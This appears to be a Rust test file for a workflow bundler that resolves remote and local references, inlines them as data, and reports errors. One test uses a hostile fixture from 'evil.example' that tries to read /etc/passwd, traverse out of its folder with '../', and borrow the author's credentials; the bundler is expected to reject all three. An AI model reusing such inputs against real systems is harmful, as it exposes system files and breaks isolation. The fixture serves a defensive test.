//! What a definition refers to elsewhere, and what becomes of it.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use expect_test::{Expect, expect};
use millrace_workflow::admission::{TEXT_BYTES_MAX, admit};
use millrace_workflow::bundle::{Bundle, Kind};
use serde_json::Value;

const HEAD: &str = "document: {dsl: '1.0.3', namespace: test, name: whole, version: '1.0.0'} # a comment\n";

/// What there is elsewhere.
type World<'w> = BTreeMap<&'w str, &'w str>;

/// Bundles a definition, its `do` on line 2 if `body` begins with it. The conversation is: what is wanted, and what is said.
fn bundle(body: &str, world: &World<'_>, said: &mut String) -> Option<Bundle> {
    let mut bundle = Bundle::read("whole.yaml", format!("{HEAD}{body}")).unwrap();
    loop {
        let wanted = match bundle.wanted(Some("file://ours")) {
            Ok(wanted) => wanted,
            Err(findings) => {
                findings.iter().for_each(|it| writeln!(said, "{it}").unwrap());
                return None;
            }
        };
        if wanted.is_empty() {
            return Some(bundle);
        }
        for reference in wanted {
            let kind = match &reference.kind {
                Kind::Function { .. } => "function",
                Kind::Schema => "schema",
                Kind::File => "file",
            };
            let credentials =
                reference.credentials.as_ref().map(|it| format!(" by {it:?}")).unwrap_or_default();
            writeln!(said, "{}: {kind} {:?}{credentials}", reference.pointer, reference.location).unwrap();
            let content =
                world.get(reference.location.to_string().as_str()).copied().unwrap_or("call: there");
            if let Err(finding) = bundle.insert(&reference, content.as_bytes()) {
                writeln!(said, "{finding}").unwrap();
                return None;
            }
        }
    }
}

fn check(body: &str, world: &World<'_>, expected: Expect) -> Option<Value> {
    let mut said = String::new();
    let bundle = bundle(body, world, &mut said);
    expected.assert_eq(&said);
    bundle.map(|it| serde_json::from_str(&it.text()).unwrap())
}

#[test]
fn a_definition_that_is_whole_stays_as_its_author_wrote_it() {
    let body = "do:\n  # another\n  - a: {set: {call: 'x:1@y', schema: {resource: {endpoint: 'https://a.b'}}}}\n  - b: {call: f, with: {document: {endpoint: 'file://a'}}, timeout: {after: PT1S}}\n";
    let bundle = bundle(body, &World::new(), &mut String::new()).unwrap();
    assert!(!bundle.is_changed());
    assert_eq!(bundle.text(), format!("{HEAD}{body}"));
    bundle.admit().unwrap();
}

#[test]
fn functions_are_written_under_the_text_of_their_call() {
    let world = World::from([
        (
            "https://a.b/c/functions/log/1.0.0/function.yaml",
            "call: https://x.y/inner.yaml\ninput: {schema: {resource: {endpoint: 'file://in.json'}}}",
        ),
        ("https://x.y/inner.yaml", "set: {inner: true}"),
        ("https://a.b/c/functions/log/1.0.0/in.json", "{\"type\": \"object\"}"),
        (
            "ours/functions/own/2.0.0-rc.1/function.yaml",
            "run: {script: {language: python, source: {endpoint: 'file://main.py'}}}",
        ),
    ]);
    let body = "use:\n  catalogs:\n    them: {endpoint: {uri: 'https://a.b/c', authentication: {basic: {username: me, password: pw}}}}\ndo:\n  - a: {call: 'log:1.0.0@them', with: {x: 1}}\n  - b: {call: 'log:1.0.0@them'}\n  - c: {try: [{d: {call: 'own:2.0.0-rc.1@default'}}], catch: {do: [{e: {call: 'https://x.y/inner.yaml'}}]}}\n";
    let value = check(body, &world, expect![[r#"
        /do/0/a/call: function Url("https://a.b/c/functions/log/1.0.0/function.yaml") by Basic(***)
        /do/2/c/catch/do/0/e/call: function Url("https://x.y/inner.yaml")
        /do/2/c/try/0/d/call: function File("ours/functions/own/2.0.0-rc.1/function.yaml")
        /use/functions/log:1.0.0@them/input/schema: schema Url("https://a.b/c/functions/log/1.0.0/in.json") by Basic(***)
        /use/functions/own:2.0.0-rc.1@default/run/script/source/endpoint: file File("ours/functions/own/2.0.0-rc.1/main.py")
    "#]]).unwrap();
    expect![[r#"
        {
          "catalogs": {
            "them": {
              "endpoint": {
                "uri": "https://a.b/c"
              }
            }
          },
          "functions": {
            "log:1.0.0@them": {
              "call": "https://x.y/inner.yaml",
              "input": {
                "schema": {
                  "document": {
                    "type": "object"
                  }
                }
              }
            },
            "https://x.y/inner.yaml": {
              "set": {
                "inner": true
              }
            },
            "own:2.0.0-rc.1@default": {
              "run": {
                "script": {
                  "language": "python",
                  "source": {
                    "endpoint": "data:text/plain;base64,Y2FsbDogdGhlcmU="
                  }
                }
              }
            }
          }
        }"#]]
    .assert_eq(&serde_json::to_string_pretty(&value["use"]).unwrap());
    let mut said = String::new();
    let again = bundle(body, &world, &mut said).unwrap().text();
    let once = bundle(body, &world, &mut said).unwrap().text();
    assert_eq!(once, again, "what has not changed is the same definition");
}

#[test]
fn a_function_that_the_author_wrote_under_such_a_name_is_not_looked_for() {
    let body = "use: {functions: {'log:1.0.0@them': {set: {x: 1}}, 'ftp://a.b': {set: {x: 1}}}}\ndo:\n  - a: {call: 'log:1.0.0@them'}\n  - b: {call: 'ftp://a.b'}\n";
    check_unchanged(body);
}

fn check_unchanged(body: &str) {
    let mut said = String::new();
    let bundle = bundle(body, &World::new(), &mut said);
    assert_eq!((bundle.map(|it| it.is_changed()), said.as_str()), (Some(false), ""));
}

#[test]
fn schemas_are_written_where_they_are_named() {
    let world = World::from([
        ("https://a.b/order.json", "{\"type\": \"object\", \"required\": [\"id\"]}"),
        ("schemas/out.yaml", "type: object # as YAML"),
    ]);
    let body = "use: {authentications: {shop: {bearer: {token: t}}}}\ninput: {schema: {resource: {endpoint: {uri: 'https://a.b/order.json', authentication: {use: shop}}}}}\ndo:\n  - a: {set: {x: 1}, output: {schema: {format: json, resource: {name: out, endpoint: 'file://schemas/out.yaml'}}}, export: {as: ., schema: {resource: {endpoint: 'https://a.b/order.json'}}}}\n";
    let value = check(
        body,
        &world,
        expect![[r#"
        /do/0/a/export/schema: schema Url("https://a.b/order.json")
        /do/0/a/output/schema: schema File("schemas/out.yaml")
        /input/schema: schema Url("https://a.b/order.json") by Bearer(***)
    "#]],
    )
    .unwrap();
    assert_eq!(value["do"][0]["a"]["output"]["schema"]["document"]["type"], "object");
    admit("whole.json", &value.to_string()).unwrap();
}

#[test]
fn files_become_data() {
    let world = World::from([
        ("app/greet.proto", "syntax = \"proto3\";"),
        ("/abs/api.json", "{}"),
        ("api.yml", "asyncapi: 3.0.0"),
        ("main.py", "print(1)"),
    ]);
    let body = "do:\n  - a: {call: grpc, with: {proto: {endpoint: 'file://app/greet.proto'}}}\n  - b: {call: openapi, with: {document: {endpoint: {uri: 'file:///abs/api.json'}}}}\n  - c: {call: asyncapi, with: {document: {endpoint: 'file:api.yml'}}}\n  - d: {run: {script: {source: {endpoint: 'file://main.py'}}}}\n  - e: {call: openapi, with: {document: {endpoint: 'https://a.b/api.json'}}}\n  - f: {call: grpc, with: {proto: {endpoint: '${ .proto }'}}}\n";
    let value = check(
        body,
        &world,
        expect![[r#"
        /do/0/a/with/proto/endpoint: file File("app/greet.proto")
        /do/1/b/with/document/endpoint: file File("/abs/api.json")
        /do/2/c/with/document/endpoint: file File("api.yml")
        /do/3/d/run/script/source/endpoint: file File("main.py")
    "#]],
    )
    .unwrap();
    expect![[r#"
        [
          {
            "a": {
              "call": "grpc",
              "with": {
                "proto": {
                  "endpoint": "data:text/plain;base64,c3ludGF4ID0gInByb3RvMyI7"
                }
              }
            }
          },
          {
            "b": {
              "call": "openapi",
              "with": {
                "document": {
                  "endpoint": "data:application/json;base64,e30="
                }
              }
            }
          },
          {
            "c": {
              "call": "asyncapi",
              "with": {
                "document": {
                  "endpoint": "data:application/yaml;base64,YXN5bmNhcGk6IDMuMC4w"
                }
              }
            }
          },
          {
            "d": {
              "run": {
                "script": {
                  "source": {
                    "endpoint": "data:text/plain;base64,cHJpbnQoMSk="
                  }
                }
              }
            }
          },
          {
            "e": {
              "call": "openapi",
              "with": {
                "document": {
                  "endpoint": "https://a.b/api.json"
                }
              }
            }
          },
          {
            "f": {
              "call": "grpc",
              "with": {
                "proto": {
                  "endpoint": "${ .proto }"
                }
              }
            }
          }
        ]"#]]
    .assert_eq(&serde_json::to_string_pretty(&value["do"]).unwrap());
}

#[test]
fn what_cannot_be_followed_is_said_all_at_once() {
    let body = "use: {catalogs: {odd: {endpoint: 'ftp://a.b'}, any: {endpoint: '${ .x }'}, oauth: {endpoint: {uri: 'https://a.b', authentication: {oauth2: {}}}}}}\ndo:\n  - a: {call: 'log@them'}\n  - b: {call: 'log:1.0.0@them'}\n  - c: {call: 'log:1.0.0@odd'}\n  - d: {call: 'log:1.0.0@any'}\n  - e: {call: 'log:1.0.0@oauth'}\n  - f: {call: 'ftp://a.b/c'}\n  - g: {set: {x: 1}, input: {schema: {resource: {endpoint: 'https://a.b/{id}'}}}}\n  - h: {set: {x: 1}, input: {schema: {resource: {endpoint: '${ .x }'}}}}\n  - i: {call: '../x:1.0.0@odd'}\n  - j: {call: grpc, with: {proto: {endpoint: 'file://%zz'}}}\n";
    check(
        body,
        &World::new(),
        expect![[r#"
            whole.yaml:2:24: error: `ftp` is no scheme that `deploy` fetches by; fix: write an `https://` URI, or a path such as `file://schemas/order.yaml`
            whole.yaml:2:54: error: `deploy` fetches this once for all instances, so it cannot be an expression; fix: write the whole URI
            whole.yaml:2:115: error: `deploy` cannot use this `authentication`: it has no secrets and asks no authority; fix: write `basic` or `bearer` of the definition itself, without secrets and expressions; or put it where it can be had without credentials
            whole.yaml:4:9: error: `log@them` names no function of a catalog; fix: write such as `log:1.0.0@catalog`
            whole.yaml:5:9: error: there is no catalog `them`; fix: add it to `use.catalogs`, with its `endpoint`; or say by --default-catalog where `default` is
            whole.yaml:9:9: error: `ftp` is no scheme that `deploy` fetches by; fix: write an `https://` URI, or a path such as `file://schemas/order.yaml`
            whole.yaml:10:50: error: `https://a.b/{id}` is a template, and what `deploy` fetches is fetched once for all instances; fix: write the whole URI
            whole.yaml:11:50: error: `deploy` fetches this once for all instances, so it cannot be an expression; fix: write the whole URI
            whole.yaml:12:9: error: `../x:1.0.0@odd` names no function of a catalog; fix: write such as `log:1.0.0@catalog`
            whole.yaml:13:36: error: `file://%zz` is no path; fix: write an `https://` URI, or a path such as `file://schemas/order.yaml`
        "#]],
    );
}

#[test]
fn a_function_from_a_url_reads_no_file_and_has_no_credentials_of_the_author() {
    let world = World::from([(
        "https://evil.example/f.yaml",
        "do:\n  - a: {run: {script: {language: python, source: {endpoint: 'file:///etc/passwd'}}}}\n  - b: {call: 'file://../g.yaml'}\n  - c:\n      set: {x: 1}\n      input: {schema: {resource: {endpoint: {uri: 'https://evil.example/s', authentication: {use: shop}}}}}\n",
    )]);
    let body = "use: {authentications: {shop: {bearer: {token: t}}}}\ndo:\n  - a: {call: 'https://evil.example/f.yaml'}\n";
    check(
        body,
        &world,
        expect![[r#"
        /do/0/a/call: function Url("https://evil.example/f.yaml")
        https://evil.example/f.yaml:2:51: error: the path `/etc/passwd` leads out of the folder of https://evil.example/f.yaml; fix: a function from a URL can use what is beside it, or `https://`
        https://evil.example/f.yaml:3:9: error: the path `../g.yaml` leads out of the folder of https://evil.example/f.yaml; fix: a function from a URL can use what is beside it, or `https://`
        https://evil.example/f.yaml:6:77: error: `deploy` cannot use this `authentication`: it has no secrets and asks no authority; fix: write `basic` or `bearer` of the definition itself, without secrets and expressions; or put it where it can be had without credentials
    "#]],
    );
}

#[test]
fn one_name_is_one_function() {
    let world =
        World::from([("one/f.yaml", "call: file://inner.yaml"), ("two/f.yaml", "call: file://inner.yaml")]);
    let body = "do:\n  - a: {call: 'file://one/f.yaml'}\n  - b: {call: 'file://two/f.yaml'}\n";
    check(
        body,
        &world,
        expect![[r#"
        /do/0/a/call: function File("one/f.yaml")
        /do/1/b/call: function File("two/f.yaml")
        two/f.yaml:1:1: error: `file://inner.yaml` is two/inner.yaml here, and one/inner.yaml elsewhere; fix: call each by a name of its own, such as its `https://` URI
    "#]],
    );
}

#[test]
fn what_is_fetched_must_be_what_it_should_be() {
    let function = "do:\n  - a: {call: 'https://a.b/f.yaml'}\n";
    check(
        function,
        &World::from([("https://a.b/f.yaml", "<html>")]),
        expect![[r#"
        /do/0/a/call: function Url("https://a.b/f.yaml")
        whole.yaml:3:9: error: there is no function at https://a.b/f.yaml; fix: refer to a file with one task in it, such as `function.yaml` with `run: …`
    "#]],
    );
    check(
        function,
        &World::from([("https://a.b/f.yaml", "set: {\nx")]),
        expect![[r#"
        /do/0/a/call: function Url("https://a.b/f.yaml")
        https://a.b/f.yaml:2:1: error: this is no YAML: invalid indentation; fix: check the indentation and the quotes here and on the line before
    "#]],
    );
}

#[test]
fn findings_in_what_was_fetched_are_in_its_own_lines() {
    let world = World::from([(
        "https://a.b/f.yaml",
        "do:\n  - inner:\n      set: {x: '${ .a | }'}\n  - swich: {}\n",
    )]);
    let body = "do:\n  - a: {call: 'https://a.b/f.yaml'}\n  - b: {swich: []}\n";
    let bundle = bundle(body, &world, &mut String::new()).unwrap();
    let said: Vec<String> = bundle.admit().unwrap_err().iter().map(ToString::to_string).collect();
    expect![[r#"
        whole.yaml:4:9: error: `swich` is no kind of task; fix: did you mean `switch`?
        https://a.b/f.yaml:3:13: error: expression `.a |`: expected term at its end; fix: write jq, such as `.order.total > 100`
        https://a.b/f.yaml:4:5: error: this task does not say what to do: it is empty; fix: the kinds of tasks are `call`, `do`, `emit`, `for`, `fork`, `listen`, `raise`, `run`, `set`, `switch`, `try`, `wait`"#]].assert_eq(&said.join("\n"));
}

#[test]
fn functions_that_call_each_other_are_fetched_once_and_refused() {
    let world =
        World::from([("https://a.b/f", "call: https://a.b/g"), ("https://a.b/g", "call: https://a.b/f")]);
    let bundle = bundle("do:\n  - a: {call: 'https://a.b/f'}\n", &world, &mut String::new()).unwrap();
    let said: Vec<String> = bundle.admit().unwrap_err().iter().map(ToString::to_string).collect();
    expect!["https://a.b/f:1:1: error: the function `https://a.b/f` calls itself, and would never end; fix: use a `for`, a jump back by `then`, or `run: workflow`"].assert_eq(&said.join("\n"));
}

#[test]
fn bundling_has_bounds() {
    let large = " ".repeat(TEXT_BYTES_MAX - 100) + "set: {x: 1}";
    check(
        "do:\n  - a: {call: 'https://a.b/f.yaml'}\n",
        &World::from([("https://a.b/f.yaml", &*large)]),
        expect![[r#"
        /do/0/a/call: function Url("https://a.b/f.yaml")
        whole.yaml:3:9: error: with what it refers to, the definition has 1048612 bytes; fix: keep all of it under 1 MiB: split the definition, or refer to large documents by `https://`, so that the worker gets them
    "#]],
    );
    let many: String = (0..257).map(|it| format!("  - a{it}: {{call: 'https://a.b/{it}'}}\n")).collect();
    check(
        &format!("do:\n{many}"),
        &World::new(),
        expect![[r#"
        whole.yaml:3:10: error: the definition refers to more than 256 things elsewhere; fix: split it into several workflows
    "#]],
    );
}

#[test]
fn a_definition_of_an_odd_shape_is_left_to_admission() {
    for body in [
        "use: []\ndo: [{a: {call: 'x:1@y'}}]\n",
        "use: {functions: 5}\ndo: [{a: {call: 'x:1@y'}}]\n",
        "do: {a: 1}\n",
    ] {
        let bundle = bundle(body, &World::new(), &mut String::new()).unwrap();
        assert!(bundle.admit().is_err(), "{body}");
    }
}
